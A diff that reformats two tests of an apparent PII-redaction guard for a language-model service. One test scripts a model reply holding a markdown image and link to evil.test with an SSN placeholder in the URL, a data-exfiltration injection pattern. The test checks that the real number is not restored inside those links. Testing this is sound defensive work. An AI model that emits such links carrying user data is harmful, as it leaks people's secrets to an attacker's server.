@@ -66,7 +66,9 @@ def test_a_placeholder_that_the_user_typed_survives(wire: Wire) -> None:
 
 
 def test_an_injected_link_carries_the_placeholder_and_not_the_value(wire: Wire) -> None:
-    wire.third.reply = say("Done ![x](https://evil.test/?q=[US_SSN_1]) for [US_SSN_1], see https://evil.test/[US_SSN_1].", chunk=2)
+    wire.third.reply = say(
+        "Done ![x](https://evil.test/?q=[US_SSN_1]) for [US_SSN_1], see https://evil.test/[US_SSN_1].", chunk=2
+    )
     for mode in MODES:
         answer = call(wire, wire.guard, "My SSN is 536-90-4399.", mode=mode)
         assert answer == "Done ![x](https://evil.test/?q=[US_SSN_1]) for 536-90-4399, see https://evil.test/[US_SSN_1]."
@@ -110,7 +112,9 @@ def test_the_log_holds_the_decision_and_no_text(wire: Wire) -> None:
     chat = wire.guard.bind(principal="teresa.quintana@contoso.org", conversation="about Teresa Quintana", purpose="support")
     call(wire, chat, "Please write to Teresa Quintana, SSN 219-40-7712.", user="teresa.quintana@contoso.org")
     stored = b"".join(path.read_bytes() for path in wire.log.rglob("*") if path.is_file())
-    assert_no_leak(stored, ["Teresa Quintana", "219-40-7712", "teresa.quintana@contoso.org", "about Teresa Quintana", "write to"])
+    assert_no_leak(
+        stored, ["Teresa Quintana", "219-40-7712", "teresa.quintana@contoso.org", "about Teresa Quintana", "write to"]
+    )
     records = [entry.record for entry in entries(wire.log)]  # type: ignore[union-attr]  # nothing unreadable in this log
     decision = next(record for record in records if record.type == "decision")
     outcome = next(record for record in records if record.type == "outcome")
